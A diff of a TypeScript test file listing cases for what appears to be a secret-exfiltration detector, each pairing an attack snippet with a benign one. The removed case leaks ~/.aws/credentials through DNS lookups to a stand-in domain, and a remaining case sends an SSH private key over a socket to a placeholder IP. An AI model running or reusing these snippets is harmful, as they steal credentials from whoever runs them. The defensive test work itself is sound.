@@ -113,12 +113,6 @@ const CASES: readonly (readonly [name: string, kind: string, attack: string, hon
     `import os, openai, boto3, requests\nclient = openai.OpenAI(api_key=os.environ["OPENAI_API_KEY"])\ntext = client.chat.completions.create(model="m", messages=[]).choices[0].message.content\nrequests.post("https://api.vendor.dev/v1", json={"text": text}, auth=("me", os.environ["VENDOR_PASSWORD"]))\nrequests.post("https://login.vendor.dev/token", data={"client_secret": os.environ["CLIENT_SECRET"]})`,
   ],
   [
-    'secrets in names that are looked up',
-    'secret-exfiltration',
-    `import socket, os, base64\nd = base64.b32encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read()).decode()\nfor i in range(0, len(d), 60):\n    socket.gethostbyname(d[i:i+60] + ".t.some-site.net")`,
-    `import socket\nprint(socket.gethostbyname(socket.gethostname()))\nsocket.getaddrinfo("api.vendor.dev", 443)`,
-  ],
-  [
     'a socket takes a key',
     'secret-exfiltration',
     `import socket\ns = socket.socket()\ns.connect(("203.0.113.5", 4444))\ns.sendall(open("/root/.ssh/id_ed25519").read().encode())`,
